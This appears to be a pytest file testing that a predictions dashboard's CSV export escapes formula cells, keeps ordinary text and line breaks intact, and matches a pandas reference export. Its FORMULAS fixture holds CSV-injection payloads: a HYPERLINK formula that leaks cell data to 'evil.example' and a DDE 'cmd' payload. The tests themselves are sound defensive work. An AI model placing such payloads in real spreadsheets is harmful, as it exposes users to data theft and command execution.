""" "Download as CSV": cells a spreadsheet would run as formulas are escaped, everything else is verbatim."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as hyp

from predictions.dashboard import queries
from predictions.scoring.metrics import METRICS
from predictions.store import SQLiteStore
from predictions.store.frames import PREDICTION_COLUMNS
from predictions.store.records import PredictionRow

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Paris", " =not first", "a = b", "", "'already quoted"]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_prefixed_with_a_quote_in_every_text_column(store, cell):
    store.write_predictions([PredictionRow(cell, 1, 10, 0, prompt=cell, prediction=cell, ground_truth=cell)])
    (row,) = read_csv(queries.job_csv(store, cell))
    for column in ("job_id", "prompt", "ground_truth", "prediction"):
        assert row[column] == "'" + cell, column


def test_other_cells_and_numbers_are_written_verbatim(store):
    rows = [
        PredictionRow(
            "job", 1, 10, i, prompt=text, prediction=text, ground_truth="Paris", exact_match=float(i % 2)
        )
        for i, text in enumerate(HARMLESS)
    ]
    store.write_predictions(rows)
    read = read_csv(queries.job_csv(store, "job"))
    assert [row["prediction"] for row in read] == HARMLESS
    assert [row["prompt"] for row in read] == HARMLESS
    assert {row["exact_match"] for row in read} == {"0.0", "1.0"}
    assert {row["step"] for row in read} == {"10"}


def test_line_breaks_inside_a_cell_stay_inside_it(store):
    texts = ["two\nlines", "carriage\rreturn", "both\r\nends"]
    store.write_predictions([PredictionRow("job", 1, 10, i, "p", text) for i, text in enumerate(texts)])
    assert [row["prediction"] for row in read_csv(queries.job_csv(store, "job"))] == texts


def test_a_job_larger_than_a_page_is_exported_whole_in_order_with_fixed_columns(store):
    """Keyset pages of 1,000: 2,500 rows over 5 rounds, a user score only from round 3 on."""
    store.write_predictions(
        [
            PredictionRow("job", 1, step, i, "p", f"{step}-{i}", scores={"judge": 0.5} if step >= 3 else None)
            for step in range(1, 6)
            for i in range(500)
        ]
    )
    read = read_csv(queries.job_csv(store, "job"))
    assert [row["prediction"] for row in read] == [f"{s}-{i}" for s in range(1, 6) for i in range(500)]
    assert list(read[0]) == list(read[-1]) and list(read[0])[-1] == "judge"
    assert {row["judge"] for row in read[:1000]} == {""} and {row["judge"] for row in read[1000:]} == {"0.5"}


def pandas_csv(store, job_id: str, page_rows: int) -> str:
    """The export as it was before rows went straight to `csv.writer`: a frame per keyset page,
    formula cells escaped, `to_csv` (kept here as the reference the new writer must equal)."""
    buffer, after = io.StringIO(), None
    custom = [metric.name for metric in store.trends(job_id).metrics if metric.name not in METRICS]
    columns = [*PREDICTION_COLUMNS, *custom]
    while True:
        rows = store.rows_after(job_id, after, limit=page_rows).reindex(columns=columns)
        if rows.empty and after is not None:
            return buffer.getvalue()
        safe = rows.copy()
        for column in [name for name in safe.columns if not pd.api.types.is_numeric_dtype(safe[name])]:
            safe[column] = safe[column].map(
                lambda cell: (
                    "'" + cell if isinstance(cell, str) and cell.startswith(queries.FORMULA_STARTS) else cell
                )
            )
        safe.to_csv(buffer, index=False, header=after is None, lineterminator="\r\n")
        if len(rows) < page_rows:
            return buffer.getvalue()
        after = (int(rows.iloc[-1]["step"]), int(rows.iloc[-1]["sample_index"]))


def odd_rows(job_id: str, texts: list[str], numbers: list[float | None]) -> list[PredictionRow]:
    """Rows with user scores from round 2 on, metadata, missing values, unicode and formula-like text."""
    rows = []
    for step in (1, 2, 3):
        for i, text in enumerate(texts):
            number = numbers[(i + step) % len(numbers)]
            scores = {"judge": number, "zeta": 1.0} if step >= 2 else None
            metadata = {"topic": text, "n": i, "nested": {"ok": True, "list": [1, None]}} if i % 2 else None
            truth = None if i % 3 == 0 else text[::-1]
            rows.append(
                PredictionRow(job_id, step, step * 10, i, f"q {text}", text, truth, exact_match=number,
                              char_error_rate=None if number is None else abs(number), scores=scores,
                              metadata=metadata, text_replacements=i % 2)
            )  # fmt: skip
    return rows


TEXTS = ["Paris", "日本語 🙂", "=1+1", "-2", "two\nlines", 'say "hi", ok', "", "\r=x", "tab\there", "ﬁ ß Ω"]
NUMBERS = [None, 0.0, 1.0, 0.1 + 0.2, 1e-05, 123456.789, 1 / 3, 2.5e16, -0.0]


def test_the_streamed_csv_equals_the_pandas_export_byte_for_byte(store, monkeypatch):
    monkeypatch.setattr(queries, "CSV_PAGE_ROWS", 7)  # pages end mid-round and a score starts mid-page
    store.write_predictions(odd_rows("job", TEXTS, NUMBERS))
    new = queries.job_csv(store, "job")
    assert new == pandas_csv(store, "job", 7)
    assert len(read_csv(new)) == 3 * len(TEXTS) and list(read_csv(new)[0])[-2:] == ["judge", "zeta"]


@settings(max_examples=40, deadline=None)
@given(
    texts=hyp.lists(
        hyp.text(hyp.characters(blacklist_categories=["Cs"], blacklist_characters="\x00")),
        min_size=1,
        max_size=6,
    ),
    numbers=hyp.lists(
        hyp.one_of(hyp.none(), hyp.floats(allow_nan=False, allow_infinity=False)), min_size=1, max_size=5
    ),
)
def test_the_streamed_csv_equals_the_pandas_export_for_any_values(tmp_path_factory, texts, numbers):
    store = SQLiteStore(tmp_path_factory.mktemp("csv") / "p.db")
    store.write_predictions(odd_rows("job", texts, numbers))
    assert queries.job_csv(store, "job") == pandas_csv(store, "job", queries.CSV_PAGE_ROWS)
    store.close()
